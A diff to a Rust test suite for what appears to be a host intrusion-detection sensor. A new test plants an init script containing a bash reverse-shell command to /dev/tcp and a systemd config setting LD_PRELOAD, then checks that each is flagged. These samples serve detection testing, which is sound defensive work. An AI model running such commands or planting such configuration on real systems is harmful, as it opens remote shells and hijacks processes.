@@ -116,14 +116,37 @@ fn a_burst_of_changes_is_told_without_putting_each_unit_together() {
     let alerts = machine.alerts();
     assert_eq!(alerts.len(), 600);
     let looked = alerts.iter().filter(|alert| changes(alert).contains("/tmp/payload")).count();
-    let said = |alert: &&Alert| {
-        alert.reasons.iter().any(|reason| reason.text.contains("was not looked at"))
-    };
+    let said = |alert: &&Alert| alert.reasons.iter().any(|reason| reason.text.contains("was not looked at"));
     let passed_over = alerts.iter().filter(said).count();
     assert!(looked >= 100 && passed_over >= 100, "{looked} and {passed_over}");
     assert_eq!(looked + passed_over, 600);
     let table = machine.pipeline.stats().tables.into_iter().find(|table| table.name == "awaited_contents");
     assert_eq!(table.unwrap().evicted, passed_over as u64);
+}
+
+#[test]
+fn what_scripts_and_configuration_say_counts_too() {
+    let mut machine = Machine::new();
+    machine.files.insert(
+        b"/etc/init.d/evil".to_vec(),
+        text_file("#!/bin/sh\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n"),
+    );
+    machine.write(shell(), INIT_D, "evil");
+    let alert = machine.one();
+    assert_eq!(alert.unit.expect("a script").signals, ["command.reverse-shell"]);
+    assert_eq!(alert.severity, crate::detect::rule::Severity::Critical);
+
+    let conf = "/etc/systemd/system.conf";
+    machine.user(
+        kind::WATCH,
+        &Watch { watch: 70, path: conf.into(), class: Some(WatchClass::ManagerConfig), owner: None },
+    );
+    machine.files.insert(conf.into(), text_file("[Manager]\nDefaultEnvironment=LD_PRELOAD=/tmp/x.so\n"));
+    let close = machine.record(kind::FILE_CLOSE_WRITE, shell()).path(70, sensor_common::watch::FILE, b"x");
+    machine.feed(close.build());
+    let alert = machine.one();
+    assert_eq!(alert.rule.id, "systemd.manager-config.written");
+    assert!(!alert.unit.as_ref().expect("configuration").signals.is_empty(), "{}", reasons(&alert));
 }
 
 #[test]
